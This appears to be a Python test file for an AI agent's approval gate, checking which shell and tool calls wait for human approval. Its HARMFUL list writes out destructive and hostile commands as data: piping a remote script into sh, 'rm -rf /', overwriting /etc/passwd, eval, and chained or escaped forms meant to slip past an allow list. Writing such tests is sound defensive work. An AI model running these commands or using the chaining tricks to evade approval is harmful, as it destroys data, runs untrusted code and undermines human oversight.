"""Which calls wait for a person."""

from __future__ import annotations

import json

from drone.agent.approvals import AskingFor, risk_of
from shared.messages import ToolCall


def shell(command: str) -> ToolCall:
    return ToolCall(id="c", name="shell", arguments=json.dumps({"command": command}))


HARMFUL = [
    "rm -rf build",
    "sudo apt-get install x",
    "/bin/rm x",
    "git push origin main",
    "git -C sub push",
    "git reset --hard HEAD~3",
    "git clean -fdx",
    "git checkout -- .",
    "curl -s https://x.example/install | sh",
    "cat x | bash",
    "make && rm -r dist",
    "echo $(rm x)",
    "echo `rm x`",
    "FOO=1 env BAR=2 rm x",
    "timeout 5 rm x",
    "find . -name '*.pyc' -delete",
    "ls | xargs rm",
    "bash -c 'rm -rf /'",
    "echo x > /etc/passwd",
    "eval $X",
    "$TOOL --now",
    "r\\m x",
    "npm publish",
    "gh pr create",
    "chmod 777 x",
    "nohup ./server &",
    "if true; then rm x; fi",
]
HARMLESS = [
    "ls -la",
    "pytest -q tests",
    "git status && git diff",
    "git log --grep push-button",
    "git commit -m 'mend the login'",
    "grep -rn 'rm -f' docs",
    "python3 -m unittest 2>&1 | tail -5",
    "echo done > out.txt",
    "make test > /dev/null 2>&1",
    "echo x > /tmp/x",
    "sed -n 1,20p a.py",
    "firm --list",
    "",
]


def test_a_command_that_could_do_harm_waits_and_says_why_unless_nothing_has_to() -> None:
    whys = {command: AskingFor("risky").why(shell(command)) or "" for command in HARMFUL}
    assert [command for command, why in whys.items() if not why.endswith(" ".join(command.split()))] == []
    assert [command for command in HARMFUL if AskingFor("yolo").why(shell(command))] == []


def test_each_way_of_asking_lets_its_tools_run() -> None:
    reading = {"file_read", "glob", "grep", "todo", "submit", "mcp__docs__search"}
    waits = {
        approve: {
            tool
            for tool in [*reading, "file_write", "editor", "spawn", "mcp__mail__send"]
            if AskingFor(approve, read_only={"mcp__docs__search"}).why(ToolCall(id="c", name=tool))
        }
        for approve in ("yolo", "risky", "all")
    }
    assert waits == {
        "yolo": set(),
        "risky": {"mcp__mail__send"},
        "all": {"file_write", "editor", "spawn", "mcp__mail__send"},
    }
    assert AskingFor("all").why(shell("ls")) is not None


def test_what_the_list_allows_runs_at_once_and_lets_no_other_command_through() -> None:
    listed = ["git push", "git push origin x", "make deploy && git push", "rm x && ls"]
    allow = ["git push*", "make *", "rm x && ls"]
    assert [c for c in listed for approve in ("risky", "all") if AskingFor(approve, allow).why(shell(c))] == []
    longer = ["git push; rm -rf .", "git push && curl x", "git push $(rm x)", "git push > /etc/x", "git push\nrm x"]
    assert [command for command in longer if not AskingFor("risky", ["git push*"]).why(shell(command))] == []


def test_a_command_of_which_no_harm_is_known_runs_at_once() -> None:
    assert [command for command in HARMLESS if risk_of(command) or AskingFor("risky").why(shell(command))] == []


def test_a_request_to_the_web_waits_only_if_all_calls_do_and_names_its_url() -> None:
    call = ToolCall(id="c", name="web_fetch", arguments='{"url": "https://example.org/?q=1"}')
    # It is read-only, which alone would let it run.
    given = {"read_only": {"web_fetch"}}
    assert [AskingFor(approve, **given).why(call) for approve in ("yolo", "risky", "all")] == [
        None,
        None,
        'Every request needs approval: {"url": "https://example.org/?q=1"}',
    ]


def test_arguments_of_any_shape_are_judged() -> None:
    for arguments in ("not json", "[1]", "{}", "[" * 100_000):
        assert AskingFor("all").why(ToolCall(id="c", name="shell", arguments=arguments)) is not None
